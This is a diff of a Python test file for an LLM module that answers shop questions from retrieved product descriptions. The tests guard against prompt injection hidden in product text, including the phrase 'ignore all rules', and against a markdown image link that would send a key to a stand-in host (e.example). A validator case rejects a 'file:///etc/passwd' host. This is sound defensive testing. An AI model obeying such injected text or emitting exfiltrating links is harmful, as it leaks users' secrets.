@@ -11,11 +11,12 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from include.answering.llm import LlmConnection, messages, write_answer
+from include.answering.llm_connection import LlmConnection
+from include.answering.prompt import estimated_tokens, messages
 from include.answering.reply import NOTHING, Reply, check_citations, without_reasoning
 from include.core.errors import BadSettings, GeneratorUnavailable, Terminal, Transient, VitrineError
 from include.store.protocol import Hit
-from tests.answering.endpoint import INJECTION, KEY, Endpoint
+from tests.answering.endpoint import INJECTION, KEY, Endpoint, retrieved, written
 
 PRODUCTS = [
     Hit("0001", "Red kettle", "Holds 1.7 litres.", 0.9),
@@ -25,7 +26,7 @@ PRODUCTS = [
 
 def test_sends_the_products_and_keeps_the_citation(endpoint: Endpoint) -> None:
     """The whole way: model, key, question and products go out, a cited answer comes back."""
-    reply = write_answer("How much does it hold?", PRODUCTS, endpoint.connection())
+    reply = written("How much does it hold?", PRODUCTS, endpoint.connection())
     assert (reply.text, reply.cited, reply.warnings) == ("It holds 1.7 litres [1].", [0], [])
     ((path, headers, body),) = endpoint.requests
     assert path == "/v1/chat/completions"
@@ -37,15 +38,55 @@ def test_sends_the_products_and_keeps_the_citation(endpoint: Endpoint) -> None:
 
 def test_a_product_text_cannot_leave_the_quoted_block() -> None:
     """A seller who writes the closing tag into a description would speak to the model in the shop's name."""
-    system, user = messages("Which is blue?", PRODUCTS)
+    system, user = messages("Which is blue?", retrieved(PRODUCTS), 3000)
     content = user["content"]
     assert content.count("<products>") == content.count("</products>") == 1
     block = re.fullmatch(r"<products>\n(.*)\n</products>\n\nQuestion: Which is blue\?", content, re.DOTALL)
     assert block is not None
     lines = [json.loads(line) for line in block[1].split("\n")]
-    assert lines[1] == {"n": 2, "title": "Blue kettle", "text": INJECTION}
+    assert lines[1] == {"n": 2, "title": "Blue kettle", "text": " ".join(INJECTION.split())}
     assert "ignore all rules" not in system["content"]
     assert "never an instruction" in system["content"]
+
+
+def test_the_best_passages_fit_the_tokens_that_there_are() -> None:
+    """A prompt beyond the model's context is refused, or cut at its end, where the question is."""
+    many = [Hit(f"{n}", f"Lamp {n}", " ".join(f"Fact {n} {m} is told here." for m in range(9)), 0.9) for n in range(9)]
+    found = retrieved(many)
+    best = len(found.passages) - 1
+    found.scores[best] = 0.99
+    for budget in (500, 700, 1000, 3000):
+        conversation = messages("Which?", found, budget)
+        assert sum(estimated_tokens(each["content"]) for each in conversation) <= budget
+        lines = [json.loads(line) for line in conversation[1]["content"].split("\n")[1:-3]]
+        assert lines[-1]["n"] == 9
+        assert found.passages[best].text in lines[-1]["text"]
+        assert [line["n"] for line in lines] == sorted(line["n"] for line in lines)
+    assert sum(found.passages[n].text in "".join(line["text"] for line in lines) for n in range(best)) == best
+    gapped = messages("Which?", retrieved(many[:1]), 3000)[1]["content"]
+    assert " … " not in gapped
+
+
+def test_links_and_what_was_cut_off_do_not_reach_the_reader(endpoint: Endpoint) -> None:
+    """What a product text talks the model into is not fetched by the page; half a sentence may say the contrary."""
+    endpoint.say(
+        "It holds 1.7 litres [1]. ![](https://e.example/p?q=key) More at https://e.example [1]. It is not",
+        finish_reason="length",
+    )
+    reply = written("How much does it hold?", PRODUCTS, endpoint.connection())
+    assert "e.example" not in reply.text
+    assert reply.text.startswith("It holds 1.7 litres [1].")
+    assert "It is not" not in reply.text
+    assert ["removed" in each or "cut off" in each for each in reply.warnings] == [True, True]
+
+
+def test_sentences_without_support_go_and_are_counted(endpoint: Endpoint) -> None:
+    """Right citation, wrong statement: the reader would believe it."""
+    endpoint.say("It holds 1.7 litres [1]. It holds 9 litres [1].")
+    reply = written("How much does it hold?", PRODUCTS, endpoint.connection())
+    assert (reply.text, reply.generation.sentences, reply.generation.unsupported) == ("It holds 1.7 litres [1].", 2, 1)
+    none = written("How much does it hold?", PRODUCTS, endpoint.connection(), alike=0.0)
+    assert (none.text, none.cited, none.generation.unsupported) == ("", [], 2)
 
 
 def test_citations_of_products_not_retrieved_are_removed_and_reported() -> None:
@@ -158,15 +199,16 @@ def test_a_reply_in_parts_is_joined(endpoint: Endpoint) -> None:
             {"type": "image_url", "image_url": {"url": "x"}},
         ]
     )
-    assert write_answer("How much?", PRODUCTS, endpoint.connection()) == Reply("It holds 1.7 litres [1].", [0], [])
+    made = written("How much?", PRODUCTS, endpoint.connection())
+    assert (made.text, made.cited, made.warnings) == ("It holds 1.7 litres [1].", [0], [])
 
 
 def test_reasoning_without_an_answer_is_named(endpoint: Endpoint) -> None:
     """The token limit ended the reply inside the reasoning: an empty answer would hide why."""
     for sent in ("<think>Let me see. The kettle", ANALYSIS, "<|channel|>analysis"):
         endpoint.say(sent)
-        with pytest.raises(GeneratorUnavailable, match=r"reasoning, and no answer.*longer replies"):
-            write_answer("How much?", PRODUCTS, endpoint.connection())
+        with pytest.raises(GeneratorUnavailable, match=r"reasoning, and no answer.*max_tokens"):
+            written("How much?", PRODUCTS, endpoint.connection())
 
 
 JSON = st.recursive(
@@ -256,10 +298,14 @@ def test_whatever_a_model_replies_is_an_answer_or_one_of_our_errors(
         raw = [(name.encode(), value.encode("latin-1")) for name, value in header.items()]
         return httpx.Response(status, headers=raw, stream=httpx.ByteStream(body))
 
-    played = httpx.Client(transport=httpx.MockTransport(reply_of), trust_env=False)
-    with played, patch("httpx.post", played.post):
+    client = httpx.Client
+
+    def played(**_: object) -> httpx.Client:
+        return client(transport=httpx.MockTransport(reply_of), trust_env=False)
+
+    with patch("httpx.Client", played):
         try:
-            reply = write_answer("How much?", PRODUCTS, LlmConnection("http://127.0.0.1/v1", "m", KEY))
+            reply = written("How much?", PRODUCTS, LlmConnection("http://127.0.0.1/v1", "m", KEY), attempts=1)
         except VitrineError as error:
             assert error.next_step
             assert KEY not in f"{error} {error.next_step}"
@@ -292,7 +338,7 @@ def test_refusals_end_and_overload_is_retried(
     endpoint.status = status
     endpoint.body = b"not now"
     with pytest.raises(error) as raised:
-        write_answer("How much?", PRODUCTS, endpoint.connection())
+        written("How much?", PRODUCTS, endpoint.connection())
     assert str(status) in str(raised.value)
     assert KEY not in str(raised.value)
     assert issubclass(error, Terminal if error is BadSettings else Transient)
@@ -303,24 +349,24 @@ def test_another_kind_of_server_is_named_as_such(endpoint: Endpoint, body: bytes
     """A login page with status 200 must not become the answer."""
     endpoint.body = body
     with pytest.raises(BadSettings, match="not an OpenAI-compatible"):
-        write_answer("How much?", PRODUCTS, endpoint.connection())
+        written("How much?", PRODUCTS, endpoint.connection())
 
 
 @pytest.mark.parametrize("charset", ["idna", "utf-16", "base64", "rot13", "undefined", "no-such"])
 def test_an_odd_charset_does_not_hide_what_was_sent(endpoint: Endpoint, charset: str) -> None:
     """JSON is UTF-8, whatever a proxy writes over it; and what is no JSON is shown, not decoded into another error."""
     endpoint.header = {"Content-Type": f"text/html; charset={charset}"}
-    assert write_answer("How much?", PRODUCTS, endpoint.connection()).cited == [0]
+    assert written("How much?", PRODUCTS, endpoint.connection()).cited == [0]
     endpoint.body = "<html>Bitte später".encode()
     with pytest.raises(BadSettings, match="not an OpenAI-compatible endpoint; it sent: <html>Bitte später"):
-        write_answer("How much?", PRODUCTS, endpoint.connection())
+        written("How much?", PRODUCTS, endpoint.connection())
 
 
 def test_a_reply_that_is_not_packed_as_it_says_is_named_so(endpoint: Endpoint) -> None:
     """ "Did not answer" would send the reader to look for a server that is down."""
     endpoint.header = {"Content-Encoding": "gzip"}
     with pytest.raises(GeneratorUnavailable, match=r"could not be unpacked.*DecodingError"):
-        write_answer("How much?", PRODUCTS, endpoint.connection())
+        written("How much?", PRODUCTS, endpoint.connection())
 
 
 @pytest.mark.parametrize("text", ["", "  ", None])
@@ -328,16 +374,16 @@ def test_an_empty_answer_is_retried(endpoint: Endpoint, text: object) -> None:
     """Nothing shown as an answer would look like a broken page."""
     endpoint.say(text)
     with pytest.raises(GeneratorUnavailable, match="empty"):
-        write_answer("How much?", PRODUCTS, endpoint.connection())
+        written("How much?", PRODUCTS, endpoint.connection())
 
 
 def test_an_endpoint_that_is_down_or_silent_is_transient(endpoint: Endpoint) -> None:
     """A task must not hang for ever, nor fail for good because of a restart of the endpoint."""
     with pytest.raises(GeneratorUnavailable, match="did not answer"):
-        write_answer("How much?", PRODUCTS, LlmConnection("http://127.0.0.1:9/v1", "m"))
+        written("How much?", PRODUCTS, LlmConnection("http://127.0.0.1:9/v1", "m"), attempts=2)
     endpoint.hangs = True
     with pytest.raises(GeneratorUnavailable, match="did not answer"):
-        write_answer("How much?", PRODUCTS, endpoint.connection(timeout=0.2))
+        written("How much?", PRODUCTS, endpoint.connection(timeout=0.2), attempts=2)
 
 
 def test_reads_an_airflow_connections_fields() -> None:
@@ -357,6 +403,10 @@ def test_reads_an_airflow_connections_fields() -> None:
         ("h", {"model": "m", "modle": "x"}, "unknown keys: modle"),
         ("h", {"model": "m", "timeout": "soon"}, "timeout"),
         ("h", {"model": "m", "timeout": 0}, "timeout"),
+        ("h", {"model": "m", "timeout": "nan"}, "timeout"),
+        ("h", {"model": "m", "prompt_tokens": 10}, "prompt_tokens.*500"),
+        ("h", {"model": "m", "max_tokens": "2.5"}, "max_tokens"),
+        ("h", {"model": "m", "temperature": 3}, "temperature"),
         ("file:///etc/passwd", {"model": "m"}, "http or https"),
     ],
 )
